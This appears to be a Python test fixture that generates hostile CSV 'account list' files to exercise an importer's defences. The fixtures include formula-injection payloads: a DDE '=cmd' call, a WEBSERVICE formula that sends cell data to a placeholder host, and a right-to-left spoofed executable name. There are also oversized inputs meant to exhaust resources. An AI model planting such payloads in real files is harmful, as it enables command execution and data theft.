"""Files that are no list of accounts, or one made to do harm: the statements' ones under other titles, and more."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from tests.support.hostile_files import FULL, HOSTILE, TITLES, hostile

if TYPE_CHECKING:
    from collections.abc import Callable

ACCOUNTS: Final = "Name,Type,Account number,Transit,Institution,Balance\n"
_ROW: Final = "Paie,Chequing,7000001,00412,003,1.00\n"


def _rows(row: str, count: int) -> bytes:
    return (ACCOUNTS + row * count).encode()


MORE: Final[dict[str, Callable[[], bytes]]] = {
    "formulas in every cell": lambda: _rows("=cmd|'/c calc'!A1,@SUM(1),+1+1,-1,=1,=HYPERLINK(1)\n", 1000),
    "a formula that fetches": lambda: _rows('"=WEBSERVICE(""http://a.example/""&B2)",Chequing,1,1,1,1\n', 500),
    "names that turn the text around": lambda: _rows("\u202egnp.exe\u2066,Chequing,7000001,00412,003,1\n", 500),
    "names of nothing but marks": lambda: _rows("a" + "\u0301" * 1500 + ",Chequing,7000001,00412,003,1\n", 500),
    "quotes in quotes in quotes": lambda: _rows('"""""""' * 200 + '",x,1,1,1,1\n', 500),
    "zeros between letters": lambda: _rows(_ROW, 10).replace(b"Paie", b"P\x00aie"),
    "utf-16 said to be utf-8": lambda: b"\xef\xbb\xbf" + _rows(_ROW, 10).decode().encode("utf-16-le"),
    "a million accounts": lambda: _rows(_ROW, 500_000),
    "accounts with a hundred columns each": lambda: _rows("," * 99 + "\n", 100) + (b"1," * 99 + b"1\n") * 1999,
    "a million columns under titles": lambda: _rows("1," * 1_000_000 + "\n", 1),
    "numbers of two thousand digits": lambda: _rows(f"Paie,Chequing,{'7' * 1990},00412,003,1\n", 1000),
    "balances beyond counting": lambda: _rows(f"Paie,Chequing,7000001,00412,003,{'9' * 1900}.{'9' * 50}\n", 1000),
    "digits that are none": lambda: _rows(
        "Paie,Chequing,\u0667\u0660\u0660\u0660\u0660\u0660\u0661,\u00b2,3,1\n", 1000
    ),
    "an archive named csv": lambda: hostile("spreadsheet"),
    "titles and nothing": ACCOUNTS.encode,
    "titles a hundred thousand times": lambda: ACCOUNTS.encode() * 100_000,
    "carriage returns in cells": lambda: _rows('"Pa\r\r\rie",Chequing,7000001,00412,003,1\n', 1000),
    "a cell that never ends": lambda: ACCOUNTS.encode() + b'"' + b"x" * (FULL - len(ACCOUNTS) - 1),
}


def every() -> dict[str, Callable[[], bytes]]:
    """All of them, by name."""

    def under_accounts(name: str) -> Callable[[], bytes]:
        return lambda: hostile(name).replace(TITLES.encode(), ACCOUNTS.encode())

    return {name: under_accounts(name) for name in HOSTILE} | MORE
